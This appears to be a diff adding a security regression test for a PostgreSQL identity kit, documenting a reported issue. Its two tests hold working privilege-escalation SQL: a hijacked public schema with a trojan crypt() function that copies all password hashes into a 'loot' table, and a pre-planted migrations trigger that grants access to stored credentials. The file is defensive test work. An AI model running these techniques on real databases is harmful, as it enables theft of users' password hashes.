@@ -1,0 +1,128 @@
+// Review of issue 14 (evidence, expected to FAIL until fixed): in an application's database the application's owner
+// owns schema `public` (pg_database_owner), which every SECURITY DEFINER function of the kit has in its search_path
+// (pg_catalog, public, pg_temp) and where the kit put pgcrypto. It may rename that schema and put its own crypt()
+// in a new `public`; the next sign-in then runs it as app_owner, which reads every password hash.
+// Also: an identity_migrate schema the application created before the install is adopted as is, and a trigger
+// on its migrations table runs as app_owner during `idkit migrate`.
+import { randomBytes } from 'node:crypto';
+import { execFile } from 'node:child_process';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { promisify } from 'node:util';
+import { afterAll, beforeAll, expect, inject, test } from 'vitest';
+import { withClient } from '../src/db/connect.ts';
+import { withConnection } from '../src/db/target.ts';
+import { CLI } from './support/idkit-process.ts';
+
+const run = promisify(execFile);
+const server = inject('testServer');
+const tag = randomBytes(3).toString('hex');
+const appOwner = `idkit_test_review_owner_${tag}`;
+const appOwnerPassword = randomBytes(12).toString('hex');
+const work = fs.mkdtempSync(path.join(os.tmpdir(), 'idkit-review-'));
+const databases = [`${server.prefix}_review_public_${tag}`, `${server.prefix}_review_squat_${tag}`];
+const su = (db: string) => withConnection(server.maintenanceUrl, { database: db });
+const asAppOwner = (db: string) => withConnection(su(db), { user: appOwner, password: appOwnerPassword });
+const asAuthenticator = (db: string) => withConnection(su(db), { user: 'app_authenticator', password: server.secrets.authenticatorPassword });
+
+async function migrate(db: string) {
+  const env = {
+    ...process.env,
+    DATABASE_URL: su(db),
+    IDKIT_DATA_DIR: work,
+    IDKIT_OWNER_PASSWORD: server.secrets.ownerPassword,
+    IDKIT_AUTHENTICATOR_PASSWORD: server.secrets.authenticatorPassword,
+  };
+  await run(process.execPath, [CLI, 'migrate'], { env }).catch(() => {});
+}
+
+/** Registers and signs in an account through the kit's functions, as the API would. */
+async function registerAndSignIn(db: string, username: string) {
+  await withClient(asAuthenticator(db), async (c) => {
+    await c.query('set role app_anonymous');
+    await c.query(`select identity.register_user($1, $2, 'Correct-horse-battery-staple-9')`, [username, `${username}@example.com`]);
+    await c.query(`select identity.authenticate($1, 'Correct-horse-battery-staple-9')`, [username]);
+  });
+}
+
+beforeAll(async () => {
+  await withClient(server.maintenanceUrl, async (c) => {
+    await c.query(`create role ${appOwner} login password '${appOwnerPassword}'`);
+    for (const db of databases) await c.query(`create database ${db} owner ${appOwner}`);
+  });
+});
+
+afterAll(async () => {
+  await withClient(server.maintenanceUrl, async (c) => {
+    for (const db of databases) await c.query(`drop database if exists ${db} with (force)`);
+    await c.query(`drop role if exists ${appOwner}`);
+  });
+  fs.rmSync(work, { recursive: true, force: true });
+});
+
+test("the application's owner cannot run code as app_owner through schema public", async () => {
+  const db = databases[0]!;
+  await migrate(db);
+  await withClient(asAppOwner(db), (c) =>
+    c.query(`
+      alter schema public rename to public_orig;
+      create schema public;
+      grant usage on schema public to public;
+      create domain public.citext as public_orig.citext;
+      create table public.loot (who name, password_hash text);
+      grant insert on public.loot to public;
+      do $do$
+      declare f record;
+      begin
+        for f in select p.proname, pg_get_function_arguments(p.oid) args, pg_get_function_result(p.oid) res,
+                        (select string_agg('$' || i, ',') from generate_series(1, p.pronargs) i) pass
+                   from pg_proc p join pg_depend d on d.objid = p.oid and d.deptype = 'e'
+                   join pg_extension e on e.oid = d.refobjid and e.extname = 'pgcrypto'
+                  where p.pronamespace = 'public_orig'::regnamespace and p.proname <> 'crypt' loop
+          execute format('create function public.%I(%s) returns %s language sql as $b$ select public_orig.%I(%s) $b$', f.proname, f.args, f.res, f.proname, f.pass);
+        end loop;
+      end $do$;
+      create function public.crypt(text, text) returns text language plpgsql as $b$
+      begin
+        if current_user = 'app_owner' then
+          insert into public.loot select current_user, password_hash from identity_private.user_credentials;
+        end if;
+        return public_orig.crypt($1, $2);
+      end $b$;`),
+  );
+  await registerAndSignIn(db, 'victim');
+  const loot = await withClient(asAppOwner(db), async (c) => (await c.query('select who, password_hash from public.loot')).rows);
+  expect(loot).toEqual([]);
+});
+
+test("an identity_migrate schema the application made before the install does not run its code as app_owner", async () => {
+  const db = databases[1]!;
+  await withClient(asAppOwner(db), (c) =>
+    c.query(`
+      create schema identity_migrate;
+      grant usage on schema identity_migrate to public;
+      create table identity_migrate.migrations (hash text primary key, previous_hash text, filename text not null unique, date timestamptz not null default now());
+      grant select, insert on identity_migrate.migrations to public;
+      create function identity_migrate.tg() returns trigger language plpgsql as $$
+      begin
+        if current_user = 'app_owner' and to_regclass('identity_private.user_credentials') is not null
+           and not exists (select 1 from pg_policy where polname = 'appo_everything') then
+          execute format('grant usage on schema identity_private to %I', '${appOwner}');
+          execute format('grant select, update on identity_private.user_credentials to %I', '${appOwner}');
+          execute format('create policy appo_everything on identity_private.user_credentials to %I using (true) with check (true)', '${appOwner}');
+        end if;
+        return null;
+      end $$;
+      create trigger t after insert on identity_migrate.migrations for each row execute function identity_migrate.tg();`),
+  );
+  await migrate(db);
+  await registerAndSignIn(db, 'victim');
+  const hashes = await withClient(asAppOwner(db), (c) =>
+    c.query('select password_hash from identity_private.user_credentials').then(
+      (r) => r.rows,
+      () => [],
+    ),
+  );
+  expect(hashes).toEqual([]);
+});
